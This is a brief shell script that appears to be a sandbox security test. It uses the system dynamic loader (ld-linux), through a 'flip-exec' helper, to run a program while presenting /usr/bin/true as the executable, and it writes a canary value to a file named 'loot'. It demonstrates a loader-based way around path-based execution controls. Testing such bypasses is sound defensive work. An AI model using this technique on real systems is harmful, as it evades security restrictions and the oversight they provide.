#!/bin/sh
: > "$ARENA/ws/ran"
echo "$CANARY" > in
for loader in /lib64/ld-linux-*.so.* /lib/ld-linux-*.so.*; do
  [ -e "$loader" ] && break
done
exec "$ARENA/tools/flip-exec" path x /usr/bin/true "$loader" 1000 ./copy < in > loot
